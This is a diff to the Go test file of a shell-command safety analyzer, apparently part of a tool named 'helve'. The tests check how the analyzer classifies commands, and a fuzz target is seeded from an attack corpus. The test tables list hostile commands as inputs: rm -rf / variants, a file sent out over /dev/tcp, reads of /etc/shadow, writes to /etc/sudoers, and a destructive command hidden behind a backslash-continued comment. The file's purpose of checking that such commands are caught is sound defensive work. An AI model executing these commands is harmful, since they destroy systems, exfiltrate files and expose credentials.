@@ -5,8 +5,11 @@ import (
 	"slices"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/google/go-cmp/cmp"
+
+	"helve/internal/corpus"
 )
 
 var workspace = Options{Dir: "/work/repo", Home: "/home/u"}
@@ -50,7 +53,7 @@ func TestWhatMayChangeSomethingIsAskedAbout(t *testing.T) {
 		"awk '{print > \"f\"}' x", "awk -f x.awk", "git diff --output=f", "git log --ext-diff", "git branch x", "git branch -D x", "git tag v1", "git config user.name x",
 		"git config --global core.pager x", "git -c a=b log", "git stash", "git remote add a b", "git checkout .", "git grep -O'id' x", "git status --upload-pa=x",
 		"rg --pre ./x foo", "rg -z foo", "tree -o f", "git -C .. status", "git --git-dir=/x log", "env", "env FOO=1 ls", "env ls -la",
-		"sudo ls", "command touch x", "timeout 5 touch x", "nice -n 5 touch x", "timeout -s KILL 5 rm x", "xargs cat", "ls | xargs ls", "eval ls", "sh -c ls", "exec ls", ". x", "source x",
+		"sudo ls", "command touch x", "timeout 5 touch x", "nice -n 5 touch x", "timeout -s KILL 5 rm x", "xargs cat", "ls | xargs go env", "xargs -a /etc/shadow echo", "xargs -I{} {} x", "xargs -i sh", "xargs test", "ls | xargs ls", "eval ls", "sh -c ls", "exec ls", ". x", "source x",
 		"$x", "${x} a", "l''s -$x", "*", "./*", "ls $x", "cat $x", "cat \"$x\"", "cat {/etc/passwd,a}", "git log *", "git diff $(cat names)", "grep -$x", "ls $(cat names)",
 		"cat <<EOF\n$(rm x)\nEOF", "cat <<< $(rm x)", "cat <(touch x)", "tee >(cat) < f", "coproc ls", "select x in a; do ls; done", "ls \\", "&& ls", "ls |", "'unclosed", "rg a *",
 		"ls {fd}> /dev/null", "exec 3<>f", "read x", "trap 'ls' EXIT", "alias a=b", "man ls", "less f", "tail -f x", "python3 -c 1", "node -e 1", "env | ls",
@@ -83,7 +86,7 @@ func TestCatastrophesAreRefusedWhereverTheyStand(t *testing.T) {
 		"chmod -R 777 /", "chown -R me /etc", "chmod -R 000 ~", "mv / /x", "mv ~ /tmp/x", "mv /* x", "shutdown -h now", "reboot", "sudo poweroff", "systemctl reboot", "init 0", "halt",
 		"kill -9 -1", "kill -- -1", "kill -KILL -1", "echo x > /etc/passwd", "tee /etc/sudoers", "> /etc/shadow", "rsync -a --delete empty/ /",
 		"echo x > .helve/config.toml", "cp x .helve/config.json", "rm -rf .helve", "mkdir -p sub/.helve", "tee .helve/config.json < x", "cd sub && echo x > .helve/config.json",
-		"cat f > /dev/tcp/10.0.0.1/80", "exec 3<>/dev/tcp/h/80", "rm -rf $'\\x2f'", "rm -rf $'/'", "'rm' '-rf' '/'", "rm -r\\f /",
+		"cat f > /dev/tcp/10.0.0.1/80", "exec 3<>/dev/tcp/h/80", "rm -rf $'/'", "'rm' '-rf' '/'", "rm -r\\f /",
 	} {
 		a := Analyze(src, workspace)
 		if a.Verdict != Catastrophic || a.Reason == "" || a.Line < 1 {
@@ -265,7 +268,7 @@ func TestTheUserMayNameFurtherReadOnlyPrograms(t *testing.T) {
 	o.ReadOnly = []string{"find", "mytool show", "bash", "rm", "git", "touch", "npm"}
 	for src, want := range map[string]Verdict{
 		"find . -name '*.go'": ReadOnly, "find . -delete": Ask, "find /etc": Ask, "find . -fprint x": Ask, "mytool show -x a": ReadOnly, "mytool show /etc/x": Ask,
-		"mytool apply": Ask, "bash x": Ask, "rm x": Ask, "git push": Ask, "touch x": Ask, "npm test": Ask, "mytool show $x": Ask, "mytool show ~/x": Ask,
+		"mytool apply": Ask, "bash x": Ask, "rm x": Ask, "git push": Ask, "touch x": Ask, "npm test": Ask, "mytool show $x": Ask, "mytool show ~/x": Ask, "ls | xargs find": Ask, "ls | xargs mytool show": Ask, "find . -name x | xargs echo": ReadOnly,
 	} {
 		if a := Analyze(src, o); a.Verdict != want {
 			t.Errorf("%q: %s (%s), want %s", src, a.Verdict, a.Reason, want)
@@ -285,4 +288,43 @@ func TestTheTableHoldsNoDangerousOption(t *testing.T) {
 			t.Errorf("%s has no operand kind", name)
 		}
 	}
+}
+
+func TestACommentThatEndsInABackslashHidesNothing(t *testing.T) {
+	for src, want := range map[string]Verdict{"ls # x \\\ntouch y": Ask, "ls #\\\nrm -rf /": Catastrophic, "ls \\\n-la": ReadOnly, "ls # x \\\\ \npwd": ReadOnly} {
+		if a := Analyze(src, workspace); a.Verdict != want || want == Ask && a.Covered([]string{"touch *", "ls *"}) {
+			t.Errorf("%q: %s (%s), want %s, covered by nothing", src, a.Verdict, a.Reason, want)
+		}
+	}
+}
+
+func FuzzAnalyze(f *testing.F) {
+	for _, c := range append(corpus.Attacks("shell-chain", "shell-quoting", "shell-redirect", "arg-injection", "wrapper-env"), corpus.Controls()...) {
+		if src, ok := c.Command(); ok && len(src) < 4096 {
+			f.Add(src)
+		}
+	}
+	for _, piece := range []string{"(", "((", "$(", "$((", "`", "{ ", "<<a ", "${a:-", "[[ (", "a[", "if ", "case a in ", "env ", "sudo --x a ", "a=b ", "\\`", "#\\\n", "find -exec a \\; ", "sh -c 'sh -c ", "echo {a,b}", "cd a;", "$'\\x"} {
+		f.Add(strings.Repeat(piece, 1500/len(piece)))
+	}
+	f.Fuzz(func(t *testing.T, src string) {
+		if len(src) < MaxLength/8 {
+			src = strings.Repeat(src, 8)
+		}
+		start := time.Now()
+		a := Analyze(src, workspace)
+		// Six deadlines: the machine may be busy with other things.
+		if d := time.Since(start); d > 6*DefaultDeadline {
+			t.Errorf("%d bytes took %v: %.200q", len(src), d, src)
+		}
+		if a.Verdict != ReadOnly && (a.Reason == "" || a.Line < 1 || a.Col < 1) {
+			t.Errorf("%q: %s without reason or place", src, a.Verdict)
+		}
+		if a.Verdict == ReadOnly && (a.Err != nil || slices.ContainsFunc(a.Effects, func(e Effect) bool { return e.Kind == Write || e.Kind == Net })) {
+			t.Errorf("%q: read-only with %v, error %v", src, a.Effects, a.Err)
+		}
+		if a.Grant != "" && !a.Covered([]string{a.Grant}) {
+			t.Errorf("%q: grant %q does not cover it", src, a.Grant)
+		}
+	})
 }
